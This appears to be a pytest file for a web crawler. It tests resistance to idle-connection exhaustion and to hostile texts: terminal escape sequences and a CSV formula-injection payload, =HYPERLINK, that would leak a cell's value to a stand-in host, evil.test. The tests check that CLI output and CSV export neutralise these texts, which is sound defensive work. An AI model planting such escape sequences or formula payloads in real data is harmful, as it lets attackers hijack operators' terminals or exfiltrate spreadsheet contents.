"""Clients that send nothing, and texts that attack the terminal or the spreadsheet of an operator."""

from __future__ import annotations

import asyncio
import csv
import time
from collections.abc import Iterable
from contextlib import AsyncExitStack, suppress
from pathlib import Path
from random import Random
from urllib.parse import urlsplit

import pytest

from strider.api import log_events
from strider.contracts.avro.codec import Codec
from strider.contracts.avro.schema_store import SchemaStore
from strider.contracts.generated.events import SeedSubmitted
from strider.contracts.generated.topics import LINK_INGESTION_DLQ, PAGES_VALIDATED, SEEDS_SUBMITTED
from strider.contracts.seed_names import RAW_PREFIX
from strider.runtime.observability import log_events as runtime_events
from strider.testing.callers import access_token
from strider.testing.site.plan import page_html, sentences
from tests.figures import record_figure
from tests.processes.waiting import until

from .attackers import PAGE, Reply, attacker_site, robots_allowing
from .neighbours import Stage

pytestmark = pytest.mark.timeout(600)

API_CONNECTIONS, HEALTH_CONNECTIONS = 256, 64
"""As many as may be open by default."""
OF_EACH_ADDRESS = 64
REQUEST = b"GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n"
END_SECONDS = 30.0

Wire = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class SilentClients:
    """Connections that send nothing, from as many addresses as the limits ask for."""

    def __init__(self) -> None:
        self._stack = AsyncExitStack()
        self.wires: list[Wire] = []

    async def open(self, port: int, count: int) -> None:
        """Open so many connections."""
        for number in range(count):
            source = f"127.0.3.{number // OF_EACH_ADDRESS + 1}"
            wire = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
            self._stack.callback(wire[1].close)
            self.wires.append(wire)

    async def until_closed(self) -> None:
        """Wait until the servers have closed all of them."""
        async with asyncio.timeout(END_SECONDS):
            await asyncio.gather(*(self._until_closed(reader) for reader, _ in self.wires))

    async def _until_closed(self, reader: asyncio.StreamReader) -> None:
        with suppress(ConnectionError):
            while await reader.read(4096):
                pass

    async def close(self) -> None:
        """Close what is still open."""
        await self._stack.aclose()


async def response_seconds(port: int, path: str) -> float:
    """Request a path as another client; it must be served."""
    began = time.monotonic()
    async with asyncio.timeout(END_SECONDS):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(REQUEST % (path.encode(), access_token().encode()))
        line = await reader.readline()
        writer.close()
    assert line.split()[1:2] == [b"200"], f"port {port} {path}: {line!r}"
    return time.monotonic() - began


def port_of(url: str) -> int:
    return urlsplit(url).port or 0


@pytest.mark.fault("A9")
async def test_clients_that_send_nothing_change_no_run_and_no_response(stage: Stage) -> None:
    """At the API, and at the health port of each service, as many as may be open at all."""
    services = stage.ring.services
    api = port_of(services["api"].events(log_events.API_LISTENING.text)[-1]["url"])
    event = runtime_events.HEALTH_SERVER_STARTED.text
    health = [port_of(each.events(event)[-1]["url"]) for each in services.values()]
    silent = SilentClients()

    async with stage.unharmed_neighbours("A9 silent clients"):
        await silent.open(api, API_CONNECTIONS)
        for port in health:
            await silent.open(port, HEALTH_CONNECTIONS)
        seconds = [await response_seconds(api, "/openapi.json")]
        seconds += [await response_seconds(api, "/api/v1/pages?limit=1")]
        seconds += [await response_seconds(port, "/readyz") for port in health]
        await silent.until_closed()
    await silent.close()
    record_figure(f"silent connections={len(silent.wires)}: slowest of {len(seconds)} {max(seconds):.2f}s")


ESCAPES = "\x1b]52;c;aGk=\x07\x9b2J\u202e\r"
"""Fills the clipboard, clears the screen, reverses the line and returns to its beginning."""
FORBIDDEN = frozenset(map(chr, (*range(9), *range(11, 32), *range(127, 160), 0x202E)))
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"ok")'


def hostile_reply(path: str) -> Reply:
    title = FORMULA if path == "/formula" else f"A page {ESCAPES}"
    page = page_html(title, sentences(Random(title), 1_500), ["/formula"])
    return robots_allowing(path) or (200, PAGE[1], page)


def avro_seed(url: str) -> bytes:
    return Codec(SchemaStore.bundled()).encode(SEEDS_SUBMITTED, SeedSubmitted(url=url)).value


@pytest.mark.fault("A11")
@pytest.mark.fault("S20", part="formulas and escape sequences in stored texts")
async def test_no_command_prints_what_a_terminal_or_a_spreadsheet_obeys(stage: Stage, tmp_path: Path) -> None:
    """Texts of seeds, JSON and Avro, and of pages; the commands that print them, while the pipeline runs."""
    refused: dict[str, tuple[str, dict[str, object]]] = {
        "http://127.0.0.1:9/field": ("unknown_field", {f"max_dept{ESCAPES}": 1}),
        "http://127.0.0.1:9/name": ("job_id", {"job_id": f"job{ESCAPES}"}),
        "http://127.0.0.1:9/formula": ("delay", {"job_id": FORMULA, "delay": 86_400}),
    }
    with attacker_site(hostile_reply, address="127.9.8.1") as site:
        async with stage.unharmed_neighbours("A11 printed texts"):
            for url, (_, fields) in refused.items():
                stage.send({"url": url, **fields})
            stage.send(avro_seed(f"http://127.0.0.1:9/avro{ESCAPES}"))
            pages = [f"{site.origin}/{path}" for path in ("escapes", "formula")]
            for url in (*pages, f"{site.origin}/{ESCAPES}"):
                stage.send({"url": url, "job_id": "escapes"})
            for url, (field, _) in refused.items():
                await stage.until_refused(url, field=field)

            async def are_stored() -> bool:
                return len(await stage.ring.pages_of(f"{RAW_PREFIX}escapes", pages)) == len(pages)

            await until(are_stored, what="the hostile pages are stored", tell=stage.ring.tell, seconds=60)
            printed = "".join([await stage.command(*words) for words in commands_about(refused)])
            file = tmp_path / "pages.csv"
            printed += await stage.command(
                "crawl", site.origin, "-o", str(file), "--format", "csv", "--max-pages", "2"
            )

    assert sorted(set(printed) & FORBIDDEN) == []
    assert "max_dept" in printed, "the dead letter names the field"
    assert "\\u001b]52" in printed, "the search is no proof unless commands print what it searches for"
    with file.open(encoding="utf-8", newline="") as opened:
        titles = {row["title"] for row in csv.DictReader(opened)}
    assert f"'{FORMULA}" in titles
    assert not any(title.startswith("=") for title in titles)


def commands_about(refused: Iterable[str]) -> list[tuple[str, ...]]:
    """Return commands that print what senders and sites wrote."""
    topics = (SEEDS_SUBMITTED, LINK_INGESTION_DLQ, PAGES_VALIDATED)
    return [
        *(("why", url, "--quick") for url in refused),
        *(("topics", "tail", topic.name, "--limit", "40") for topic in topics),
        ("runs", "list"),
    ]
